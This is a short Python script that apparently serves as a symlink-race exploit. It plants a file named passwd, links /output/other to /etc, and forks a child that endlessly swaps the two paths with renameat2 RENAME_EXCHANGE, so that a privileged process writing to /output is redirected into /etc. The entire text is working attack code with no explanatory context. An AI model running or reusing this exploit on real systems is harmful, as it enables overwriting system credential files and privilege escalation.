import ctypes
import os
import time

libc = ctypes.CDLL(None)
EXCHANGE = 2
os.mkdir("/output/deep")
with open("/output/deep/passwd", "w") as sink:
    sink.write("id\n")
os.symlink("/etc", "/output/other")
if os.fork() == 0:
    os.setsid()
    while True:
        libc.renameat2(-100, b"/output/deep", -100, b"/output/other", EXCHANGE)
time.sleep(0.3)
